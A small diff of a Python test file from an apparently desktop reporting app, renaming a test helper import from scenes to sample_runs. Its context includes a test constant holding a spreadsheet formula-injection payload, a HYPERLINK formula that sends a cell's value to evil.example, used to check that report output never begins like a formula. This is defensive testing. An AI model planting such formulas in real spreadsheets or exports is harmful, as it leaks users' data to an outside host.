@@ -9,7 +9,7 @@ import pytest
 from dmm_desktop.core.models import FailingEntity
 from dmm_desktop.core.spreadsheet import harmless_lines
 from dmm_desktop.ui.reports.report_page import report_page
-from ui.run_scenes import scenes
+from ui.sample_runs import sample_runs
 
 NOW = datetime(2026, 6, 30, 10, 44, tzinfo=UTC)
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
@@ -36,7 +36,7 @@ class Cells(HTMLParser):
 def test_no_cell_and_no_line_begins_like_a_formula(formula: str, before: str) -> None:
     said = before + formula
     run = replace(
-        next(iter(scenes().values()))[0],
+        next(iter(sample_runs().values()))[0],
         message=formula,
         status_word=formula,
         connection=formula,
